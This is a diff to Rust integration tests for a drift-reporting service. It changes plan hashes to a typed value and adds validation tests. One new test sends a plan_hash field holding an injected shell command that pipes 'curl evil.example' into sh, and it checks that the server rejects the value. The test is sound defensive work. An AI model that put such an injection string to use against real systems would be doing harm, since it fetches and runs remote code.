@@ -2,7 +2,7 @@
 
 use chrono::{DateTime, TimeDelta, Utc};
 use heddle_client::{ClientError, DriftQuery, Http, PageQuery, ReporterClient};
-use heddle_core::drift::{Cause, Deviation, DriftState, DriftTool, Found};
+use heddle_core::drift::{Cause, Deviation, DriftState, DriftTool, Found, PlanHash};
 use heddle_db::retention::{self, Age, Ages};
 use heddle_wire::{
     automator::{DriftExpectation, ReadReport},
@@ -64,7 +64,7 @@ fn look(minutes_ago: i64, items: &[&str]) -> DriftLook {
         not_looked_at: Vec::new(),
         more_not_looked_at: 0,
         failure: None,
-        plan_hash: Some("1-abc".into()),
+        plan_hash: Some(PlanHash::new(Uuid::from_bytes([7; 16]), &[9; 32])),
     }
 }
 
@@ -120,7 +120,7 @@ async fn what_was_found_is_shown_with_its_history() {
     assert_eq!(spells, [(Found::Differs, 2), (Found::Same, 1)]);
     let shown = detail.shown.unwrap();
     assert_eq!(shown.items, again.items);
-    assert_eq!(shown.plan_hash.unwrap().as_str(), "1-abc");
+    assert_eq!(shown.plan_hash, again.plan_hash);
     assert_eq!(row.since, Some(detail.history[0].first_at), "it differs since it first did");
     let before = loom.user.drift_record(loom.organization, taken.record, Some(detail.history[1].id)).await.unwrap();
     assert!(before.shown.unwrap().items.is_empty());
@@ -206,6 +206,8 @@ async fn a_revoked_reporter_is_refused_and_what_it_said_is_marked() {
         (row.state, reason.as_str()),
         (DriftState::Unknown, "the last look is by a revoked reporter; it was the same then")
     );
+    let detail = loom.user.drift_record(loom.organization, made.reporter.record, None).await.unwrap();
+    assert_eq!(detail.shown.unwrap().plan_hash, None, "nobody is told to apply what it said");
     let again = loom.user.revoke_reporter(loom.organization, made.reporter.id).await.unwrap_err();
     assert_eq!(again.code(), Some("not-found"));
     // Another one looks anew; the mark stays at what the first one said, also when it is forgotten.
@@ -220,6 +222,24 @@ async fn a_revoked_reporter_is_refused_and_what_it_said_is_marked() {
     let actions: Vec<&str> = audit.items.iter().map(|entry| entry.action.as_str()).collect();
     assert_eq!(actions, ["reporter.create", "reporter.revoke", "reporter.create"]);
     assert_eq!(audit.items[2].details["source"], "infra/prod");
+}
+
+#[tokio::test]
+async fn a_hash_of_a_plan_is_one_and_of_terraform() {
+    let loom = Loom::start().await;
+    let (made, _) = make(&loom, "prod", DriftTool::Terraform, "infra/prod").await;
+    let looks = loom.base.join("reporter/v1/looks").unwrap();
+    let mut evil = serde_json::to_value(look(1, &[])).unwrap();
+    evil["plan_hash"] = "1-x; curl evil.example | sh".into();
+    let told = reqwest::Client::new().post(looks).bearer_auth(made.token.expose()).json(&evil).send().await.unwrap();
+    assert_eq!(told.status(), 422);
+    assert!(told.text().await.unwrap().contains("a plan hash is what `heddle diff terraform` prints"));
+    let (dashed, _) = make(&loom, "prod", DriftTool::Terraform, "-x").await;
+    assert_eq!(dashed.command, "heddle diff terraform './-x' --report prod");
+    let (_, ansible) = make(&loom, "prod", DriftTool::Ansible, "site.yml").await;
+    let playbook = DriftLook { tool: DriftTool::Ansible, source: "site.yml".parse().unwrap(), ..look(1, &[]) };
+    assert_eq!(code(ansible.report(&playbook).await), "invalid");
+    ansible.report(&DriftLook { plan_hash: None, ..playbook }).await.unwrap();
 }
 
 #[tokio::test]
